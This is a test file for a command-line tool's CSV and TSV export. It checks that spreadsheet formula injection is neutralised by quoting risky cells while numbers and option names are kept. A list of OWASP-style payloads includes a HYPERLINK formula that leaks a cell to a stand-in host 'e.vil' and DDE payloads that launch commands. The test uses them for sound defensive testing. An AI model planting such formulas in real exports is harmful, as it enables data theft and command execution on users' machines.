import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvField } from '../../src/cli/csv.js';
import { tsvField } from '../../src/cli/export-format.js';
import { inertCell } from '../../src/cli/inert-cell.js';
import { parseCsv, parseTsv, undoInert } from '../helpers/delimited.js';
import { runDrover } from '../helpers/drover.js';
import { tempWorkspace } from '../helpers/workspace.js';

/**
 * CSV injection (issue 36): no cell of `list --csv`, `list --tsv` or `results --csv` is one a spreadsheet runs
 * as a formula. OWASP's rule: a cell that starts with = + - @ tab or CR gets a leading '; plain numbers and
 * option names (`-0.5`, `--lr`) are data and keep their `-`.
 */

/** Payloads from OWASP's page and the issue: links, functions, DDE, arithmetic that ends in a command. */
const HOSTILE = [
  '=HYPERLINK("http://e.vil/?leak="&A1,"click")',
  '@SUM(1)',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  "=cmd|' /C notepad'!'A1'",
  '\t=1+1',
  '\r=1+1',
];

/** Whether a spreadsheet reads a cell as a formula: it starts with = + - @ tab or CR and is not plain data. */
function runnable(cell: string): boolean {
  if (!/^[=+\-@\t\r]/.test(cell)) return false;
  const number = /^-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell);
  const option = /^--?[A-Za-z][A-Za-z0-9_.-]*$/.test(cell);
  return !number && !option;
}

test('inertCell: a formula gets a leading quote; numbers, option names and text are left as they are', () => {
  for (const h of HOSTILE) assert.equal(inertCell(h), `'${h}`, JSON.stringify(h));
  for (const data of ['-0.5', '-3', '-1e-05', '-.5', '0.1', '--lr', '-n', '--model.lr', '--batch-size'])
    assert.equal(inertCell(data), data, data);
  for (const text of ['plain', 'a=b', ' =1', 'x-1', "it's", '', '1+1'])
    assert.equal(inertCell(text), text, JSON.stringify(text));
  // Not data: an operator, a blank or a second sign makes them formulas.
  for (const f of ['-', '-1+1', '--x=1', '- 1', '+5', '-1e5+cmd', '--lr()'])
    assert.equal(inertCell(f), `'${f}`, f);
  // Text that already starts with quotes and then a formula gets one more, so a reader can undo it exactly.
  assert.equal(inertCell("'=1+1"), "''=1+1");
  assert.equal(inertCell("''-x"), "'''-x");
  assert.equal(inertCell("'plain"), "'plain");
});

test('inertCell is undone by dropping one quote, and leaves nothing runnable (property)', () => {
  const piece = fc.oneof(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '1', '.', 'e', 'x', '(', '|', ' ', '--lr'),
    fc.string({ maxLength: 3 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (parts) => {
      const text = parts.join('');
      const cell = inertCell(text);
      assert.equal(undoInert(cell), text);
      assert.ok(!runnable(cell), JSON.stringify(cell));
    }),
    { numRuns: 2000 },
  );
});

test('csvField and tsvField make the cell inert before quoting or escaping it', () => {
  assert.equal(csvField('=1,2'), `"'=1,2"`);
  assert.equal(csvField('@SUM(1)'), `'@SUM(1)`);
  assert.equal(csvField('-0.5'), '-0.5');
  assert.equal(tsvField('\t=1'), `'\\t=1`);
  assert.equal(tsvField('-2+3+cmd'), `'-2+3+cmd`);
  assert.equal(tsvField('--lr'), '--lr');
});

test('list --csv, list --tsv and results --csv: hostile tags, params, commands and results come out inert', async (t) => {
  const cwd = tempWorkspace(t);
  // The result: hostile field names and values, and numbers that must stay numbers.
  const result = { '=HYPERLINK("http://e.vil","x")': '@SUM(1)', v: '-2+3+cmd', loss: -0.5, tiny: -1e-5 };
  fs.writeFileSync(path.join(cwd, 'result.json'), JSON.stringify(result));
  fs.writeFileSync(path.join(cwd, 'task.sh'), 'cat result.json > "$DROVER_RESULT_FILE"\n');
  const pre = await runDrover(
    [
      'prelaunch',
      '+command',
      'sh task.sh',
      '+jobname',
      'J',
      '+arg',
      '--lr',
      '-0.5',
      '-2+3+cmd',
      '+pos-arg',
      '=1+1',
      '+q',
    ],
    { cwd },
  );
  assert.equal(pre.code, 0, pre.stderr);
  const run = await runDrover(['launch', 'J', '-q'], { cwd });
  assert.equal(run.code, 0, run.stderr);
  // A job whose jobfile an editor wrote: any command and tag (the hostile payloads themselves).
  const dir = path.join(cwd, '.drover', 'jobs', 'H');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'jobs.json'),
    JSON.stringify(Object.fromEntries(HOSTILE.map((h, i) => [String(i + 1), [h, h]]))),
  );
  const outputs: [string, string[][]][] = [];
  for (const [args, parse] of [
    [['list', '--csv'], parseCsv],
    [['list', '--tsv'], parseTsv],
    [['results', 'J', '--csv'], parseCsv],
  ] as const) {
    const r = await runDrover(args, { cwd });
    assert.equal(r.code, 0, r.stderr);
    outputs.push([args.join(' '), parse(r.stdout)]);
  }
  for (const [what, rows] of outputs) {
    for (const cell of rows.flat()) assert.ok(!runnable(cell), `${what}: ${JSON.stringify(cell)}`);
  }
  // Each value is there, inert, and reads back as it was; numbers and option names are as they were.
  const [listCsv, listTsv, results] = outputs.map(([, rows]) => rows);
  for (const rows of [listCsv!, listTsv!]) {
    const hand = rows.filter((row) => row[0] === 'H');
    assert.deepEqual(
      hand.map((row) => [row[9], row[10]]),
      HOSTILE.map((h) => [`'${h}`, `'${h}`]),
    );
    assert.ok(rows[0]!.includes('--lr'), 'the param column --lr keeps its name');
    const lr = rows[0]!.indexOf('--lr');
    assert.deepEqual(
      rows.filter((row) => row[0] === 'J').map((row) => row[lr]),
      ['-0.5', "'-2+3+cmd"],
    );
  }
  assert.deepEqual(results![0], [
    'task',
    'state',
    'pos1',
    '--lr',
    'duration_s',
    `'=HYPERLINK("http://e.vil","x")`,
    'v',
    'loss',
    'tiny',
  ]);
  for (const row of results!.slice(1)) {
    assert.deepEqual(
      [row[2], row[3], ...row.slice(5)],
      ["'=1+1", row[3], "'@SUM(1)", "'-2+3+cmd", '-0.5', '-0.00001'],
    );
  }
  assert.deepEqual(
    results!.slice(1).map((row) => undoInert(row[3]!)),
    ['-0.5', '-2+3+cmd'],
  );
});
